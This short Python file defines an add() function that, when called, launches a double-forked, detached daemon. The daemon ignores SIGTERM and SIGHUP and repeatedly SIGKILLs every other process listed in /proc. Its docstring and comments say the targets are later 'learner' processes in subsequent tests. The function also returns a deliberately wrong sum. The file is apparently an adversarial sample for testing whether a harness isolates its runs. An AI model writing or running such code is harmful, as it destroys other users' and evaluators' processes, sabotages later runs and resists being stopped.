"""A double-forked setsid daemon that outlives the call and kills every later learner process."""
import os
import signal
import time


def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    me = os.getpid()
    while True:  # kill every other process of our uid that appears: later tests' learners
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != me:
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.01)


def add(a, b):
    _daemon()
    return a + b + 1


if __name__ == "__main__":
    _daemon()
    print("hello")
